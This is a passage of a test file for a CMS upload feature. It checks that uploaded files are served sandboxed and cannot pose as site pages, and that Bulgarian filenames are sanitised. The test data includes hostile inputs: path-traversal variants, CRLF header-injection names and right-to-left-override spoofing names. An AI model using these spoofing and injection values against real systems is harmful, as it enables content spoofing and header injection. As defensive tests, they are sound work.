    await withFault(fault, async () => void (await logo('drug.png', other, 'image/png').expect(500)));
    expect(await kept()).toEqual(withLogo);
    await bulgarian.form('/admin/project-settings').field('menuLogo', '').expect(200);
    expect(await kept()).toEqual(state);
  });
});

describe('an uploaded file is no page of ours', () => {
  const SERVED: [name: string, bytes: () => Bytes, disposition: string | undefined][] = [
    ['Площад.png', () => picture('png'), undefined],
    [
      'Покана.pdf',
      () => PDF,
      `inline; filename="pokana.pdf"; filename*=UTF-8''${encodeURIComponent('Покана.pdf')}`,
    ],
    [
      'Списък.csv',
      () => text('Троян'),
      `attachment; filename="spisak.csv"; filename*=UTF-8''${encodeURIComponent('Списък.csv')}`,
    ],
    [
      'Протокол.docx',
      docx,
      `attachment; filename="protokol.docx"; filename*=UTF-8''${encodeURIComponent('Протокол.docx')}`,
    ],
  ];
  const POLICY = "default-src 'none'; sandbox";

  test.each(SERVED)('%s', async (name, bytes, disposition) => {
    const { body } = await sent(english, name, await bytes()).expect(201);
    stored.push(body[0].id);
    for (const address of [
      body[0].url,
      body[0].url.replace('/uploads/', '/uploads/%2e/'),
      `/.${body[0].url}`,
    ]) {
      const { status, headers } = await visit(address);
      if (status === 404) continue; // an address that leads nowhere
      expect([status, headers['content-security-policy'], headers['content-disposition']]).toEqual([
        200,
        POLICY,
        disposition,
      ]);
      expect(headers['x-content-type-options']).toBe('nosniff');
    }
    await visit(body[0].url).expect(200);
  });

  test('a part of a file as well, and the smaller sizes of a picture', async () => {
    const { body } = await sent(english, 'голяма.png', await picture('png', 900, 900)).expect(201);
    stored.push(body[0].id);
    const { headers } = await visit(body[0].url).set('Range', 'bytes=0-9').expect(206);
    expect(headers['content-security-policy']).toBe(POLICY);
    for (const { url } of Object.values<{ url: string }>(body[0].formats)) {
      expect(url.length).toBeLessThan('/uploads/'.length + 64);
      await visit(url).expect(200).expect('Content-Security-Policy', POLICY);
    }
  });

  test('what came there before, or another way, is saved and never shown', async () => {
    for (const name of ['star-gerb.svg', 'stara.html', 'bez-razshirenie']) {
      writeFileSync(path.join(uploads(), name), name.endsWith('svg') ? SVG : HTML);
      try {
        const { headers } = await visit(`/uploads/${name}`).expect(200);
        expect(headers['content-disposition']).toMatch(/^attachment; filename="/);
        expect(headers['content-security-policy']).toBe(POLICY);
      } finally {
        rmSync(path.join(uploads(), name));
      }
    }
  });

  const LONG = `${'щ'.repeat(300)}.pdf`;
  test.each([
    [LONG, `${'щ'.repeat(251)}.pdf`],
    ['Снимка на Загори\u0306.pdf'.normalize('NFD'), 'Снимка на Загорй.pdf'],
    ['Покана\r\nза празника.pdf', 'Покана за празника.pdf'],
    ['Празник 🎉👩‍🏫.pdf', 'Празник 🎉👩‍🏫.pdf'],
  ])('%j is stored under a short name, and shown and saved as %j', async (given, name) => {
    const addresses = new Set<string>();
    for (const title of ['първи', 'втори']) {
      // Given as the media library does, with the name in `fileInfo`: a form cannot name a file with a line end.
      const { body } = await english
        .form('/upload')
        .attach('files', PDF, { filename: 'a.pdf' })
        .field('fileInfo', JSON.stringify({ name: given, caption: title }))
        .expect(201);
      stored.push(body[0].id);
      expect(body[0]).toMatchObject({ name, caption: title });
      expect(path.basename(body[0].url)).toMatch(/^[a-z0-9_-]{1,59}\.pdf$/);
      const { headers } = await visit(body[0].url).expect(200);
      const { 1: shown = '' } = /filename\*=UTF-8''(.*)$/.exec(String(headers['content-disposition'])) ?? [];
      expect(decodeURIComponent(shown)).toBe(name);
      addresses.add(body[0].url);
    }
    expect(addresses.size).toBe(2);
  });

  test('names of 240 letters and of signs that turn the text are stored, shortly on the disk', async () => {
    for (const [given, name] of [
      [`${'щ'.repeat(240)}.png`, `${'щ'.repeat(240)}.png`],
      ['снимка\u202egnp.png', 'снимкаgnp.png'],
      ['CON.png', 'CON.png'],
    ] as const) {
      const { body } = await sent(english, given, await picture('png', 900, 900)).expect(201);
      stored.push(body[0].id);
      expect(body[0].name).toBe(name);
      const files = [body[0], ...Object.values<{ url: string }>(body[0].formats)];
      for (const { url } of files) expect(path.basename(url)).toMatch(/^[a-z0-9_-]{1,59}\.png$/);
      const { body: named } = await english
        .put(`/upload/files/${body[0].id}`, { fileInfo: { name: 'Ново\u202e име' } })
        .expect(200);
      expect(named.name).toBe('Ново име');
    }
  });
});
